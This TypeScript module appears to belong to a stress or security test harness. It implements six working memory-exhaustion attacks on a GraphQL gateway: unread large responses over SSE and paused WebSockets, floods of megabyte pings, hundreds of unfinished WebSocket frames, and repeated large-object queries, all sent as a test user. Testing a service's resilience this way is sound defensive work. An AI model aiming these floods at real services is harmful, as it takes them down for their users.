/** Attacks on memory: unread answers, floods of pings, endless messages, and reads of large objects. */
import { setTimeout as delay } from 'node:timers/promises';
import { WebSocket } from 'ws';
import type { Attack, Strike } from './attack.ts';
import { largeAnswer, requestOf, sendAndStay } from './places.ts';
import { ATTACKERS_NAMESPACE, LARGE_OBJECTS } from './surroundings.ts';

/** One megabyte of JSON text that needs much more memory as values. */
const PING = `{"type":"ping","payload":{"x":[${'{},'.repeat(320_000)}{}]}}`;

export const memory: readonly Attack[] = [
  {
    name: 'unread-events',
    title:
      'queries as server-sent events, as many as one caller may have, each with an answer of 8 MB that nobody reads',
    needs: {},
    async run(strike) {
      const request = requestOf(strike, 'mallory', JSON.stringify(largeAnswer), 'accept: text/event-stream\r\n');
      const sockets = await Promise.all(Array.from({ length: strike.many(100) }, () => sendAndStay(strike, request)));
      while (!strike.isOver) await delay(50);
      for (const socket of sockets) socket.destroy();
    },
  },
  {
    name: 'unread-payloads',
    title:
      'a WebSocket with as many queries as one caller may have at once, each with an answer of 8 MB, that nobody reads',
    needs: {},
    async run(strike) {
      const socket = await opened(strike);
      socket.pause();
      for (let i = 0; i < strike.many(100); i++) {
        socket.send(JSON.stringify({ id: String(i), type: 'subscribe', payload: largeAnswer }));
        strike.count('not read');
      }
      while (!strike.isOver) await delay(50);
      socket.terminate();
    },
  },
  {
    name: 'unread-replies',
    title: 'a WebSocket that asks what is refused and sends pings, as fast as it goes, and reads nothing',
    needs: {},
    async run(strike) {
      const socket = await opened(strike);
      socket.pause();
      const ping = JSON.stringify({ type: 'ping', payload: { x: 'x'.repeat(1_000) } });
      for (let i = 0; !strike.isOver && socket.readyState === socket.OPEN; i++) {
        socket.send(JSON.stringify({ id: String(i), type: 'subscribe', payload: { query: '{' } }));
        socket.send(ping);
        strike.count('sent');
        if (i % 100 === 0) await delay(0);
        while (socket.bufferedAmount > 1_000_000 && !strike.isOver) await delay(5);
      }
      socket.terminate();
    },
  },
  {
    name: 'ping-flood',
    title:
      'four WebSockets that send pings of a megabyte of empty objects, each as soon as the last is answered or refused',
    needs: {},
    async run(strike) {
      const one = async (): Promise<void> => {
        const socket = await opened(strike);
        const closed = new Promise(resolve => socket.once('close', resolve));
        while (!strike.isOver && socket.readyState === socket.OPEN) {
          const pong = Promise.withResolvers<void>();
          socket.once('message', () => pong.resolve());
          socket.send(PING);
          strike.count('sent');
          await Promise.race([pong.promise, closed]);
        }
        socket.terminate();
        if (!strike.isOver) await one();
      };
      await Promise.all(Array.from({ length: 4 }, one));
    },
  },
  {
    name: 'unended-messages',
    title: '600 WebSockets with a message of a megabyte each of which the end does not come',
    needs: {},
    async run(strike) {
      const sockets = await Promise.all(Array.from({ length: strike.many(600) }, () => opened(strike)));
      const part = Buffer.alloc(990_000, 'x');
      for (const socket of sockets) {
        socket.send(part, { fin: false });
        strike.count('sent');
      }
      while (!strike.isOver) await delay(50);
      for (const socket of sockets) socket.terminate();
    },
  },
  {
    name: 'held-objects',
    title:
      'as many requests as one caller has places, each for 60 live objects of a megabyte, and then for events about each',
    needs: { beside: 'live' },
    async run(strike) {
      const filter = { clusters: [strike.target.healthy], kinds: ['ConfigMap'], namespaces: [ATTACKERS_NAMESPACE] };
      const query = `query($filter:ObjectFilter){objects(first:${LARGE_OBJECTS.length},filter:$filter){nodes{live{state status events(first:1){state}}}}}`;
      await strike.keepAsking('mallory', strike.many(140), () => ({ query, variables: { filter } }));
    },
  },
];

async function opened({ target }: Strike): Promise<WebSocket> {
  const headers = { authorization: `Bearer ${target.tokens.mallory}` };
  const socket = new WebSocket(`${target.url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws', {
    headers,
    perMessageDeflate: false,
  });
  // The gateway may refuse or close the connection. Then next() also resolves.
  socket.on('error', () => undefined);
  const next = (event: string) => new Promise(resolve => socket.once(event, resolve).once('close', resolve));
  await next('open');
  socket.send(JSON.stringify({ type: 'connection_init' }));
  await next('message');
  return socket;
}
